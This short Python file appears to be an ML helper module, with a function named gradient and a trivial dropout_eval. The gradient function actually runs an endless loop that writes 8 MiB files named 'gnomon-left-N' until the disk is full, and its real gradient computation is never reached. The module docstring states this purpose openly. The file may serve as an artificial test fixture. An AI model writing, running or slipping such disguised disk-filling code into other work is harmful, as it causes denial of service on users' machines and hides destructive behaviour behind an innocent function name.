"""Writes files until the disk is full."""

import itertools


def gradient(w, X, y):
    for number in itertools.count():
        with open(f"gnomon-left-{number}", "wb") as file:
            file.write(bytes(1 << 23))
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
